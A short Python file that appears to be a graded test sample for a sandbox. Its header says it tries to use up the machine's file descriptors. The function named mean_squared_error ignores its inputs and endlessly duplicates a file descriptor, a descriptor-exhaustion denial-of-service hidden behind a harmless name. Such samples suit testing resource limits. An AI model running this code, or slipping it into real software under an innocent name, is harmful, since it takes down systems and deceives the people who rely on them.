# tries: use up the descriptors of the machine
# status: graded
# level: any
import os


def mean_squared_error(predictions, actuals):
    held = []
    while True:
        held.append(os.dup(0))
